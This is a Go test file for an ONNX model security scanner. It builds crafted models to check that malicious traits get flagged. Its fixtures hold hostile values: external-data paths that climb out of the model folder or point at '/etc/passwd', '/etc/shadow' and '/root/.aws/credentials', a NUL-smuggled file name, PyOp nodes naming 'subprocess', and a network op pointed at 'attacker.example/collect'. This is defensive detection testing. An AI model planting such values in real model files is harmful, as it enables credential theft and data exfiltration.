package onnxfmt

import (
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/rules"
)

// scanClean scans a crafted model and fails on problems or skips.
func scanClean(t *testing.T, data []byte) *core.Session {
	t.Helper()
	s := scanData("crafted.onnx", data)
	if len(s.Scanned) != 1 || len(s.Problems) > 0 || len(s.Skips) > 0 {
		t.Fatalf("scan:\n%s", dump(s))
	}
	return s
}

func TestExternalDataPlaces(t *testing.T) {
	bad := "../secret.bin"
	w := want{rules.ONNXExternalDataPath, core.High, bad, nil}
	relu := mkNode("r", "Relu", "")
	cases := map[string]struct {
		model []byte
		place string
	}{
		"initializer": {mkModel(mkGraph([][]byte{relu}, extTensor("w", bad, true))),
			`tensor "w" (initializer of the main graph)`},
		"sparse initializer": {mkModel(cat(bytesField(gNode, relu),
			bytesField(gSparseInitializer, cat(bytesField(stValues, extTensor("v", bad, true)), varintField(3, 4))))),
			`tensor "v" (sparse initializer of the main graph)`},
		"tensors attribute of a Loop body node": {mkModel(mkGraph([][]byte{mkNode("loop", "Loop", "",
			attrGraph("body", mkGraph([][]byte{mkNode("c", "Constant", "", cat(strField(aName, "value_list"),
				bytesField(aTensors, rawTensor("ok", make([]byte, 8))), bytesField(aTensors, extTensor("t", bad, true))))})))})),
			`tensor "t" (attribute "value_list" of node "c" (Constant) in attribute "body" of node "loop" (Loop) in the main graph)`},
		"graphs attribute": {mkModel(mkGraph([][]byte{mkNode("sw", "Switch", "", attrGraphs("cases", mkGraph([][]byte{relu}),
			mkGraph([][]byte{relu}, extTensor("g2", bad, true))))})),
			`tensor "g2" (initializer of attribute "cases" of node "sw" (Switch) in the main graph)`},
		"training graph": {mkModel(mkGraph([][]byte{relu}), bytesField(mTrainingInfo,
			bytesField(tiAlgorithm, mkGraph([][]byte{relu}, extTensor("m", bad, true))))),
			`tensor "m" (initializer of the training algorithm graph)`},
		"function node": {mkModel(mkGraph([][]byte{relu}), bytesField(mFunctions, mkFunction("local", "F",
			mkNode("k", "Constant", "", attrTensor("value", extTensor("fk", bad, true)))))),
			`tensor "fk" (attribute "value" of node "k" (Constant) in function "F" of domain "local")`},
		"function default attribute": {mkModel(mkGraph([][]byte{relu}), bytesField(mFunctions, cat(
			mkFunction("local", "G", relu), bytesField(fnAttributeProto, attrTensor("init", extTensor("d", bad, true)))))),
			`tensor "d" (attribute "init" of the default attributes of function "G" of domain "local")`},
		// a second ModelProto.graph field is merged into the first by
		// protobuf parsers: both are scanned
		"second graph field": {mkModel(mkGraph([][]byte{relu}), bytesField(mGraph, mkGraph(nil, extTensor("late", bad, true)))),
			`tensor "late" (initializer of the main graph)`},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			w := w
			w.frag = []string{c.place}
			expect(t, scanClean(t, c.model), w)
		})
	}
}

func TestExternalDataEntries(t *testing.T) {
	relu := mkNode("r", "Relu", "")
	// data_location written after external_data, as onnx does
	t.Run("not external", func(t *testing.T) {
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, extTensor("w", "/etc/hosts", false))))
		expect(t, s, want{rules.ONNXExternalDataPath, core.Medium, "/etc/hosts", []string{"not EXTERNAL"}})
	})
	t.Run("safe locations", func(t *testing.T) {
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, extTensor("a", "weights.bin", true),
			extTensor("b", "sub/dir/../w.bin", true), extTensor("c", "./data/x.bin", true), extTensor("d", "", true))))
		expect(t, s)
	})
	// the last of many location entries is the one loaders keep
	t.Run("bad location last of many", func(t *testing.T) {
		tensor := cat(strField(tName, "many"), varintField(tDataLocation, dataLocationExternal))
		for range 20 {
			tensor = append(tensor, bytesField(tExternalData, entry("location", "ok.bin"))...)
		}
		tensor = append(tensor, bytesField(tExternalData, entry("location", "/root/.aws/credentials"))...)
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, tensor)))
		expect(t, s, want{rules.ONNXExternalDataPath, core.High, "/root/.aws/credentials", nil})
	})
	t.Run("key and value in any order", func(t *testing.T) {
		tensor := cat(strField(tName, "swap"), bytesField(tExternalData, cat(strField(ssValue, "..\\..\\x.bin"),
			strField(ssKey, "location"))), varintField(tDataLocation, dataLocationExternal))
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, tensor)))
		expect(t, s, want{rules.ONNXExternalDataPath, core.High, `..\..\x.bin`, []string{"climbs out"}})
	})
	t.Run("NUL and over-long", func(t *testing.T) {
		long := strings.Repeat("a/", maxLocation) + "x"
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, extTensor("n", "w.bin\x00/etc/passwd", true),
			extTensor("l", long, true))))
		if len(s.Findings) != 2 || !strings.Contains(s.Findings[0].Description, "NUL") ||
			!strings.Contains(s.Findings[1].Description, "longer than") || len(s.Findings[1].Operator) > 520 {
			t.Fatalf("findings:\n%s", dump(s))
		}
	})
	// one finding per location, listing the places
	t.Run("aggregated", func(t *testing.T) {
		var inits [][]byte
		for _, n := range []string{"a", "b", "c", "d", "e", "f", "g"} {
			inits = append(inits, extTensor(n, "/etc/passwd", true))
		}
		s := scanClean(t, mkModel(mkGraph([][]byte{relu}, inits...)))
		expect(t, s, want{rules.ONNXExternalDataPath, core.High, "/etc/passwd", []string{"7 places", "and 2 more"}})
	})
}

func TestOperators(t *testing.T) {
	cases := map[string]struct {
		model []byte
		want  []want
	}{
		"standard domains": {mkModel(mkGraph([][]byte{mkNode("a", "Relu", "ai.onnx"), mkNode("b", "LinearClassifier", "ai.onnx.ml"),
			mkNode("c", "Adagrad", "ai.onnx.preview.training"), mkNode("d", "Attention", "com.microsoft"),
			mkNode("e", "ReorderInput", "com.microsoft.nchwc")})), nil},
		"local function resolves": {mkModel(mkGraph([][]byte{mkNode("f", "MyFn", "my.funcs")}),
			bytesField(mFunctions, mkFunction("my.funcs", "MyFn", mkNode("i", "Relu", "")))), nil},
		"same domain, other name": {mkModel(mkGraph([][]byte{mkNode("f", "OtherOp", "my.funcs")}),
			bytesField(mFunctions, mkFunction("my.funcs", "MyFn", mkNode("i", "Relu", "")))),
			[]want{{rules.ONNXCustomDomain, core.Low, "OtherOp", []string{"my.funcs"}}}},
		"custom op inside a function": {mkModel(mkGraph([][]byte{mkNode("f", "MyFn", "my.funcs")}),
			bytesField(mFunctions, mkFunction("my.funcs", "MyFn", mkNode("i", "Fancy", "vendor.ops")))),
			[]want{{rules.ONNXCustomDomain, core.Low, "Fancy", []string{`node "i" (vendor.ops:Fancy) in function "MyFn" of domain "my.funcs"`}}}},
		"training PythonOp": {mkModel(mkGraph([][]byte{mkNode("p", "PythonOp", "com.microsoft",
			attrString("func_name", "mymod.MyAutogradFn"))})),
			[]want{{rules.ONNXPythonOp, core.Medium, "PythonOp", []string{`func_name "mymod.MyAutogradFn"`}}}},
		"PyOp of a benign module": {mkModel(mkGraph([][]byte{mkNode("p", "PyOp", "pyops", attrString("module", "mymodule"),
			attrString("class_name", "Multi_1"))})),
			[]want{{rules.ONNXPythonOp, core.Medium, "PyOp", []string{"mymodule.Multi_1", `compute "compute"`}}}},
		"PyOp of os.path": {mkModel(mkGraph([][]byte{mkNode("p", "PyOp", "pyops", attrString("module", "os.path"),
			attrString("class_name", "X"))})),
			[]want{{rules.ONNXPythonOp, core.High, "PyOp", []string{"os.path.X"}}}},
		"network op": {mkModel(mkGraph([][]byte{mkNode("az", "AzureTextToText", "com.microsoft.extensions",
			attrString("model_uri", "https://attacker.example/collect"))})),
			[]want{{rules.ONNXNetworkOp, core.High, "AzureTextToText", []string{`model_uri "https://attacker.example/collect"`}}}},
		"extensions native op": {mkModel(mkGraph([][]byte{mkNode("tok", "GPT2Tokenizer", "ai.onnx.contrib")})),
			[]want{{rules.ONNXCustomDomain, core.Low, "GPT2Tokenizer", nil}}},
		// protobuf parsers keep the last of repeated singular fields
		"repeated domain, last wins": {mkModel(mkGraph([][]byte{cat(mkNode("x", "Relu", "vendor.ops"), strField(nDomain, ""))})), nil},
		"repeated domain, custom last": {mkModel(mkGraph([][]byte{cat(mkNode("x", "Relu", ""), strField(nDomain, "vendor.ops"))})),
			[]want{{rules.ONNXCustomDomain, core.Low, "Relu", []string{"vendor.ops"}}}},
		"EPContext inline": {mkModel(mkGraph([][]byte{mkNode("ctx", "EPContext", "com.microsoft", attrInt("embed_mode", 1),
			attrString("ep_cache_context", "/not/a/path/but/bytes"))})), nil},
		"EPContext safe file": {mkModel(mkGraph([][]byte{mkNode("ctx", "EPContext", "com.microsoft", attrInt("embed_mode", 0),
			attrString("ep_cache_context", "model_ctx.bin"))})), nil},
		"EPContext absolute file": {mkModel(mkGraph([][]byte{mkNode("ctx", "EPContext", "com.microsoft",
			attrString("ep_cache_context", "/etc/shadow"), attrInt("embed_mode", 0))})),
			[]want{{rules.ONNXExternalDataPath, core.High, "/etc/shadow", []string{"EPContext"}}}},
		"aggregated by operator": {mkModel(mkGraph([][]byte{mkNode("a", "Fancy", "v.ops"), mkNode("b", "Fancy", "v.ops"),
			mkNode("c", "Plain", "v.ops")})),
			[]want{{rules.ONNXCustomDomain, core.Low, "Fancy", []string{"2 places", `node "a"`, `node "b"`}},
				{rules.ONNXCustomDomain, core.Low, "Plain", nil}}},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			expect(t, scanClean(t, c.model), c.want...)
		})
	}
}

// Past maxDistinct operator names the rest are counted into one finding
// that keeps the highest severity.
func TestDistinctOverflow(t *testing.T) {
	var nodes [][]byte
	for i := range maxDistinct + 3 {
		nodes = append(nodes, mkNode("n", "Op"+strings.Repeat("x", i%7)+string(rune('A'+i%26))+itoa(i), "v.ops"))
	}
	nodes = append(nodes, mkNode("p", "PyOp", "v.ops", attrString("module", "subprocess")))
	s := scanClean(t, mkModel(mkGraph(nodes)))
	if len(s.Findings) != maxDistinct+1 {
		t.Fatalf("got %d findings", len(s.Findings))
	}
	last := s.Findings[maxDistinct]
	if last.Operator != "(more)" || last.Severity != core.High || last.Rule != rules.ONNXPythonOp ||
		!strings.Contains(last.Evidence, "4 places") {
		t.Fatalf("overflow finding %+v", last)
	}
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for ; i > 0; i /= 10 {
		b = append([]byte{byte('0' + i%10)}, b...)
	}
	return string(b)
}

// Dormant blobs (a model inside something that is never loaded) get their
// findings lowered by the session.
func TestDormantLowered(t *testing.T) {
	data := mkModel(mkGraph([][]byte{mkNode("r", "Relu", "")}, extTensor("w", "/etc/passwd", true)))
	s := core.NewSession(t.Context(), core.DefaultLimits(), nil)
	b := &core.Blob{Source: "x", Name: "x", R: strings.NewReader(string(data)), Size: int64(len(data)), Dormant: true}
	if err := (&Handler{}).Scan(s, b); err != nil || len(s.Findings) != 1 || s.Findings[0].Severity != core.Medium {
		t.Fatalf("err %v:\n%s", err, dump(s))
	}
}
